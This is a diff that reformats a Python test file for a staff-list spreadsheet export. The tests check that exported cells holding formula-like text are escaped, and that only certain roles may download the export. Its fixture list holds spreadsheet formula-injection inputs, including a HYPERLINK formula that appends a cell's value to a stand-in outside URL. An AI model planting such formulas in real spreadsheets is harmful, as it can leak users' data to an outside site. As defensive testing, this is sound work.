@@ -16,8 +16,15 @@ from hoinghi.org.imports.services import import_staff
 from hoinghi.org.models import Person
 from hoinghi.testing import World, make_person
 
-RISKY = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+84912345678", "-2+3", "@SUM(A1:A2)",
-         "\tTab", "\rCR", "=1+1"]
+RISKY = [
+    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
+    "+84912345678",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tTab",
+    "\rCR",
+    "=1+1",
+]
 
 
 def sheet_of(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
@@ -33,11 +40,20 @@ def test_it_writes_the_import_columns_and_one_row_per_person(world: World) -> No
     assert len(rows) - 1 == Person.objects.filter(agency=world.agency).count()
     head = next(r for r in rows if r[0] == "TD01")
     assert head[1:3] == ("Nguyễn Thị Hương", "Nữ") and head[9:16] == (
-        "van-phong", "Văn phòng", None, "Trưởng phòng", "x", "x", datetime(2015, 1, 1))
+        "van-phong",
+        "Văn phòng",
+        None,
+        "Trưởng phòng",
+        "x",
+        "x",
+        datetime(2015, 1, 1),
+    )
 
 
 def test_it_orders_people_by_given_name(world: World) -> None:
-    names = [r[1] for r in sheet_of(export_staff(world.agency)).iter_rows(min_row=2, values_only=True)]
+    names = [
+        r[1] for r in sheet_of(export_staff(world.agency)).iter_rows(min_row=2, values_only=True)
+    ]
     assert names[:3] == ["Đỗ Văn Bình", "Vũ Thị Cúc", "Hoàng Văn Đoàn"]
 
 
@@ -54,10 +70,18 @@ def test_no_cell_of_an_export_is_a_formula(world: World) -> None:
     sheet = sheet_of(export_staff(world.agency))
     cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
     assert all(c.data_type != "f" for c in cells)
-    risky = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("\t\r").startswith(("=", "+", "-", "@"))]
+    risky = [
+        c
+        for c in cells
+        if isinstance(c.value, str) and c.value.lstrip("\t\r").startswith(("=", "+", "-", "@"))
+    ]
     assert len(risky) == len(RISKY) - 2  # the names begin with "Nguyễn", the titles are risky
     assert all(c.data_type == "s" and c.quotePrefix for c in risky)
-    assert {c.value for c in risky} >= {"=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "=1+1", "@SUM(A1:A2)"}
+    assert {c.value for c in risky} >= {
+        '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
+        "=1+1",
+        "@SUM(A1:A2)",
+    }
 
 
 def test_the_risky_text_imports_back_unchanged(world: World) -> None:
@@ -75,7 +99,9 @@ def test_the_template_has_a_header_an_example_and_a_guide(world: World) -> None:
     assert counts.people_created == 1 and counts.positions_created == 1
 
 
-def test_the_export_costs_a_fixed_number_of_queries(world: World, django_assert_max_num_queries: object) -> None:
+def test_the_export_costs_a_fixed_number_of_queries(
+    world: World, django_assert_max_num_queries: object
+) -> None:
     rows = staff_rows(60)
     rows[0]["Đơn vị cấp trên (mã)"] = "van-phong"
     import_staff(world.agency, xlsx_bytes(rows), filename="ds.xlsx")
@@ -83,14 +109,20 @@ def test_the_export_costs_a_fixed_number_of_queries(world: World, django_assert_
         export_staff(world.agency)  # people, positions, their units, the units' parents
 
 
-@pytest.mark.parametrize(("persona", "status"), [("admin", 200), ("clerk", 200), ("leader", 403),
-                                                 ("colleague", 403), ("stranger", 404)])
-def test_only_the_administrator_and_the_clerk_may_export(world: World, persona: str, status: int) -> None:
+@pytest.mark.parametrize(
+    ("persona", "status"),
+    [("admin", 200), ("clerk", 200), ("leader", 403), ("colleague", 403), ("stranger", 404)],
+)
+def test_only_the_administrator_and_the_clerk_may_export(
+    world: World, persona: str, status: int
+) -> None:
     client = Client()
     client.force_login(getattr(world, persona))
     response = client.get(reverse("org:export-people", args=[world.agency.code]))
     assert response.status_code == status
     if status == 200:
-        assert response["Content-Disposition"].startswith('attachment; filename="can-bo-co-quan-thu-')
+        assert response["Content-Disposition"].startswith(
+            'attachment; filename="can-bo-co-quan-thu-'
+        )
         assert response["Cache-Control"] == "no-store"
         assert sheet_of(response.content).cell(row=1, column=1).value == "Mã cán bộ"
